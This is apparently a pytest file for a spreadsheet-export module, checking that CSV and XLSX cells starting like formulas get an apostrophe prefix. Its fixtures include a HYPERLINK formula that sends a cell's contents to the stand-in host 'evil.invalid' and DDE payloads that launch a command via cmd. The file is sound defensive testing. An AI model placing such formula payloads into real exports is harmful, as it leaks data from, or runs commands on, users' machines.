"""`core.spreadsheets`: text that a spreadsheet would run as a formula leaves the app as text."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from core.api import CSVRenderer, csv_lines
from core.spreadsheets import csv_cell, runs_as_formula, xlsx_row, xlsx_text

HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text", [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=", "-", "@"]
)
def test_text_starting_like_a_formula_is_prefixed_with_an_apostrophe(text):
    assert runs_as_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-5", "-0.25", "+3", "32.9", "1234567", "Nguyễn Thị Hoa", "a=b", "", "2020-01-01", " =x"],
)
def test_plain_text_and_numbers_written_as_text_stay_as_they_are(value):
    assert not runs_as_formula(value)
    assert csv_cell(value) == value


def test_numbers_none_and_lists_keep_their_rules():
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""
    assert csv_cell(["H-01", "H-02"]) == "H-01 H-02"
    assert csv_cell(["=1+1", "H-02"]) == "'=1+1 H-02"


def test_csv_lines_neutralise_every_text_cell_and_the_header():
    text = "".join(csv_lines(["=name", "value"], [{"=name": HYPERLINK, "value": "-5"}]))

    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["'=name", "value"],
        ["'" + HYPERLINK, "-5"],
    ]


def test_the_csv_renderer_neutralises_its_rows():
    rendered = CSVRenderer().render([{"note": DDE, "value": "-1"}]).decode()

    assert rendered.splitlines()[1] == f"'{DDE},-1"


def test_an_xlsx_cell_keeps_formula_like_text_as_text_with_the_quote_prefix():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_row(sheet, 1, [HYPERLINK, "-x", "Hoa", -5, "-5"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in cells] == [
        (HYPERLINK, "s", True),
        ("-x", "s", True),
        ("Hoa", "s", False),
        (-5, "n", False),
        ("-5", "s", False),
    ]


def test_xlsx_text_returns_the_cell_it_wrote():
    sheet = Workbook().active
    cell = xlsx_text(sheet["B2"], HYPERLINK)

    assert (cell.coordinate, cell.value, cell.data_type) == ("B2", HYPERLINK, "s")
